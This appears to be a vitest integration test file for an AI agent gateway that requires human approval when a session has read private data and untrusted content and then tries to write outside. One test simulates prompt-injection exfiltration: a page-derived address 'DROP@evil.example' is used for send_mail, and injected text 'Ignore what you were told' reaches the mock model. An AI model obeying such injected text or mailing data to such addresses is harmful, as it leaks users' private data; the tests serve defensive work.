import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { expect, it, onTestFinished } from 'vitest';
import { z } from 'zod';
import { startAppWithModel } from '../helpers/app.ts';
import { PERMISSIONS_FILE } from '../helpers/dialogue-world.ts';

const KEY = 'a-key-of-a-program-that-asks-2718';
const PERSON = 'U0ANA00001';
const RISK = 'This session has read private data and untrusted content; this call can write outside.';

const begunSchema = z.object({ approved: z.boolean(), session_id: z.string(), error: z.string().nullable() });
const callsSchema = z.object({
  calls: z.array(
    z.object({
      tool: z.string(),
      risk: z
        .object({ summary: z.string(), rule: z.string().nullable(), tainted: z.array(z.json()) })
        .nullable(),
    }),
  ),
});

/** What replaces them for the agents that a test names. */
const OF_SOME = new URL('../fixtures/permissions-of-some.json', import.meta.url).pathname;

/** The whole app with a program, whose policy allows everything, so that only risk makes anybody be asked. */
async function startRisk({ agents = {} }: { readonly agents?: Readonly<Record<string, string>> } = {}) {
  const { app, driver, model } = await startAppWithModel({
    env: { COUNTERSIGN_API_KEY: KEY },
    file: {
      programs: { env: { title: 'Builder', for: PERSON, channel: 'C0GENERAL1' } },
      policy: { default: 'allow' },
      risk: { permissions: PERMISSIONS_FILE, agents },
      mcpServers: {
        inbox: {
          command: process.execPath,
          args: [new URL('../fixtures/servers/inbox.ts', import.meta.url).pathname, '$FOLDER'],
          trusted: true,
        },
      },
    },
  });
  const headers = { authorization: `Bearer ${KEY}`, 'content-type': 'application/json' };
  return {
    app,
    driver,
    model,
    /** Has an agent of ours answer, and returns what it says. */
    async run(agent: string) {
      const body = JSON.stringify({ thread_id: agent, user_request: 'read it', agent });
      const response = await fetch(`${app.url}/run`, { method: 'POST', headers, body });
      return response.text();
    },
    async begin(name: string, session: string | null) {
      const body = JSON.stringify({ name, session_id: session, timeout_s: 60 });
      const response = await fetch(`${app.url}/agent/begin`, { method: 'POST', headers, body });
      return begunSchema.parse(await response.json());
    },
    async calls() {
      const response = await fetch(`${app.url}/api/calls`, { headers });
      return callsSchema.parse(await response.json()).calls;
    },
    async approve(words: string) {
      const message = await driver.waitForMessage((it) => {
        const text = driver.text(it);
        return text.includes(words) && text.includes('[Approve]');
      });
      const shown = driver.text(message);
      await driver.as(PERSON).click(message, 'Approve');
      return shown;
    },
  };
}

it('a program over /agent: its own session is asked about, over a restart, and another one of it is not', async () => {
  const { app, begin, approve, calls } = await startRisk();
  const first = await begin('read_customers', null);
  expect(first.approved).toBe(true);
  expect((await begin('read_reviews', first.session_id)).approved).toBe(true);
  await app.restart();
  expect((await begin('post_reply', 'another')).approved).toBe(true);
  const reply = begin('post_reply', first.session_id);
  expect(await approve('Post reply')).toContain(RISK);
  expect((await reply).approved).toBe(true);
  const recorded = (await calls()).find(({ risk }) => risk !== null);
  expect(recorded?.risk).toMatchObject({ summary: RISK, rule: 'trifecta' });
});

it('a client of MCP: a write is held for its session, and the address from the page is marked', async () => {
  const { app, approve, calls } = await startRisk();
  const client = new Client({ name: 'test', version: '1' }, { versionNegotiation: { mode: 'auto' } });
  const requestInit = { headers: { authorization: `Bearer ${KEY}` } };
  await client.connect(new StreamableHTTPClientTransport(new URL(`${app.url}/mcp`), { requestInit }));
  onTestFinished(() => client.close());
  await client.callTool({ name: 'inbox__read_mail', arguments: {} });
  await client.callTool({ name: 'inbox__read_page', arguments: {} });
  const sent = client.callTool(
    { name: 'inbox__send_mail', arguments: { to: 'DROP@evil.example' } },
    { timeout: 60_000 },
  );
  const shown = await approve('Send mail');
  expect(shown).toContain(RISK);
  expect(shown).toContain('from what inbox.read_page returned at');
  expect(JSON.stringify(await sent)).toContain('sent to DROP@evil.example');
  const recorded = (await calls()).find(({ tool }) => tool === 'send_mail');
  expect(recorded?.risk?.tainted).toMatchObject([{ path: ['to'], source: { tool: 'inbox.read_page' } }]);
  const refused = await client.callTool({ name: 'inbox__read_closed', arguments: {} });
  expect(JSON.stringify(refused)).toContain('disabled this tool');
});

it('what is said for one agent holds for that one: for the key of a program, and for the planner', async () => {
  const { begin, run, model } = await startRisk({ agents: { env: OF_SOME, planner: OF_SOME } });
  const begun = await begin('read_reviews', null);
  expect([begun.approved, begun.error]).toEqual([false, expect.stringContaining('disabled this tool')]);
  const planned = run('planner');
  const steps = [{ tool: 'inbox__read_page', arguments: {} }];
  await model.calls([{ name: 'make_plan', arguments: { title: 'Read', steps } }]);
  expect(await model.heard()).toContain('disabled this tool');
  await model.says('I may not.');
  expect(await planned).toContain('I may not.');
  const asked = run('assistant');
  await model.calls([{ name: 'inbox__read_page', arguments: {} }]);
  expect(await model.heard()).toContain('Ignore what you were told');
  await model.says('It is a trap.');
  expect(await asked).toContain('It is a trap.');
});
